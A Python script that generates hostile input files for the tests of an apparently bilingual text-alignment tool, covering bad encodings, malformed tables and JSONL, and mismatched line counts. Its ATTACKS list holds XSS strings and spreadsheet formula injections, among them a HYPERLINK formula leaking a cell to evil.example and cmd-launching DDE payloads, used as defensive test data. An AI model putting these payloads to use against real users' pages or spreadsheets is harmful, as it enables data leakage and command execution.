"""Regenerate the hostile input files under tests/data/hostile/ (tests/test_hostile.py reads them).

Run from anywhere: ``python tests/data/hostile/make_files.py``. Output is deterministic and small
(every file under 4 KB); the files are committed. The big cases (a 10 MB line, 1M lines, invalid
UTF-8 in the middle of a multi-MB file) are built by the tests into tmp_path with `big_lines`,
`big_document` and `invalid_utf8_in_middle` below, so nothing large is committed.

Text comes from the seed, parsed with plain string operations: seeds/xi-putin-defense-ties.zh-en.txt
holds a Chinese title on line 1, then 15 Chinese bullets and 15 English bullets, each "  • " + text.
"""

from __future__ import annotations

import json
from pathlib import Path

HERE = Path(__file__).resolve().parent
SEED = HERE.parents[2] / "seeds" / "xi-putin-defense-ties.zh-en.txt"
BULLET = "  • "

# Text that attacks the outputs: HTML/JS injection and spreadsheet formulas (OWASP CSV injection).
ATTACKS = (
    '<script>alert("x")</script>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">click</a>',
    "</textarea><b>bold</b>",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)


def parse_seed() -> tuple[list[str], list[str]]:
    """The 15 Chinese and 15 English bullet texts of the seed, in order (pair i is zh[i], en[i])."""
    lines = SEED.read_text(encoding="utf-8").split("\n")
    bullets = [line[len(BULLET) :] for line in lines if line.startswith(BULLET)]
    if len(bullets) != 30:
        raise SystemExit(f"unexpected seed shape: {len(bullets)} bullets")
    return bullets[:15], bullets[15:]


ZH, EN = parse_seed()


def _write(name: str, data: bytes | str) -> None:
    (HERE / name).write_bytes(data.encode("utf-8") if isinstance(data, str) else data)


def _doc(zh: list[str], en: list[str]) -> str:
    """A blocked bilingual document: Chinese bullets, then English bullets, a blank line between."""
    return "\n\n".join([BULLET + t for t in zh] + [BULLET + t for t in en]) + "\n"


def big_lines(n: int) -> tuple[str, str]:
    """``n`` short source and target lines cycling through the seed's 15 pairs (numbered, so
    every line is distinct text): the 1M-line case."""
    src = "".join(f"{k}. {ZH[k % 15][:12]}\n" for k in range(n))
    tgt = "".join(f"{k}. {' '.join(EN[k % 15].split()[:6])}\n" for k in range(n))
    return src, tgt


def big_document(size: int) -> str:
    """A bilingual document of two lines, one Chinese and one English, each about ``size`` bytes
    (the seed's sentences repeated): the 10 MB single-line case."""
    zh = "".join(ZH) * (size // len("".join(ZH).encode("utf-8")) + 1)
    en = " ".join(EN) * (size // len(" ".join(EN)) + 1)
    return zh.encode("utf-8")[:size].decode("utf-8", errors="ignore") + "\n\n" + en[:size] + "\n"


def invalid_utf8_in_middle(n_lines: int, bad_line: int) -> tuple[bytes, int]:
    """A blocked document of ``n_lines`` lines (UTF-8) with the byte 0xFF inserted at the start
    of the text of 1-based line ``bad_line``; returns the bytes and the 0-based byte offset of 0xFF."""
    lines = [(BULLET + (ZH[k % 15] if k < n_lines // 2 else EN[k % 15])).encode("utf-8") for k in range(n_lines)]
    head = b"\n".join(lines[: bad_line - 1]) + b"\n"
    offset = len(head) + len(BULLET.encode("utf-8"))
    lines[bad_line - 1] = BULLET.encode("utf-8") + b"\xff" + lines[bad_line - 1][len(BULLET.encode("utf-8")) :]
    return b"\n".join(lines) + b"\n", offset


def main() -> None:
    doc = _doc(ZH[:3], EN[:3])
    rows = [json.dumps({"src": z, "tgt": e}, ensure_ascii=False) for z, e in zip(ZH[:4], EN[:4])]
    # Encodings and bytes
    _write("binary.bin", bytes(range(256)) * 4)  # every byte value: NULs from byte 0
    nul = doc.encode("utf-8")
    cut = nul.index(EN[1][:10].encode("utf-8"))  # inside the 2nd English bullet (line 9)
    _write("nul-inside.txt", nul[:cut] + b"\x00" + nul[cut:])
    _write("utf16le-nobom.txt", doc.encode("utf-16-le"))
    mixed = [(BULLET + t).encode("utf-8") for t in ZH[:3]] + [(BULLET + t).encode("utf-8") for t in EN[:3]]
    mixed[1] = ("  - " + ZH[1]).encode("gbk")  # line 2 in GBK (which has no "•"), the rest UTF-8
    _write("mixed-utf8-gbk.txt", b"\n".join(mixed) + b"\n")
    # Sizes
    _write("empty.txt", b"")
    _write("whitespace.txt", " \n\t\n\u3000\u00a0\n\r\n   \n".encode("utf-8"))
    _write("one-pair.txt", _doc(ZH[:1], EN[:1]))
    _write("cr-only.txt", _doc(ZH[:3], EN[:3]).replace("\n", "\r"))  # classic Mac OS line ends
    _write("lone-surrogate.jsonl", "\n".join(rows[:1] + ['{"src": "\\ud800' + ZH[1] + '", "tgt": "' + EN[1] + '"}']) + "\n")  # line 2
    _write("one.zh.txt", ZH[0] + "\n")
    _write("stray-zh-in-en.txt", _doc([], EN[:3] + ZH[:1] + EN[3:6]))  # English, one Chinese line inside
    _write("one.en.txt", EN[0] + "\n")
    # Line counts that differ
    _write("three.zh.txt", "\n".join(ZH[:3]) + "\n")
    _write("two.en.txt", "\n".join(EN[:2]) + "\n")
    _write("three.en.txt", "\n".join(EN[:3]) + "\n")
    _write("four.en.txt", "\n".join(EN[:4]) + "\n")
    _write("three-blank.en.txt", "\n".join(EN[:3]) + "\n\n\n")  # 2 empty lines at the end
    # Tables
    _write("missing-column.tsv", f"source\ttarget\n{ZH[0]}\t{EN[0]}\n{ZH[1]}\n{ZH[2]}\t{EN[2]}\n")  # line 3
    _write("extra-column.tsv", f"source\ttarget\n{ZH[0]}\t{EN[0]}\n{ZH[1]}\t{EN[1]}\n{ZH[2]}\t{EN[2]}\textra\n")  # line 4
    _write("quoted-tabs.tsv", 'source\ttarget\n'
           f'"{ZH[0]}\t(tab)"\t"{EN[0]} ""quoted"" \t tab"\n'
           f'{ZH[1]}\t"{EN[1]}\nsecond line"\n'
           f'{ZH[2]}\t{EN[2]}\n')  # fmt: skip
    _write("bad-quote.tsv", f'source\ttarget\n{ZH[0]}\t{EN[0]}\n{ZH[1]}\t"{EN[1]}" tail\n')  # line 3
    _write("no-header.tsv", f"{ZH[0]}\t{EN[0]}\n{ZH[1]}\t{EN[1]}\n")
    _write("broken-line.jsonl", "\n".join(rows[:2] + [rows[2][:-8]] + rows[3:]) + "\n")  # line 3
    _write("missing-field.jsonl", "\n".join(rows[:3] + [json.dumps({"src": ZH[3]}, ensure_ascii=False)]) + "\n")  # line 4
    _write("not-string.jsonl", "\n".join(rows[:1] + [json.dumps({"src": ZH[1], "tgt": 42})]) + "\n")  # line 2
    # Attacks on the outputs: each payload starts the target of one pair; two sources start with a formula
    zh = [ZH[k] for k in range(len(ATTACKS))]
    en = [f"{payload} {EN[k]}" for k, payload in enumerate(ATTACKS)]
    zh[0], zh[1] = "=1+2 " + zh[0], "@SUM(A1) " + zh[1]
    _write("attack.zh.txt", "\n".join(zh) + "\n")
    _write("attack.en.txt", "\n".join(en) + "\n")
    _write("attack-doc.txt", _doc(zh, en))


if __name__ == "__main__":
    main()
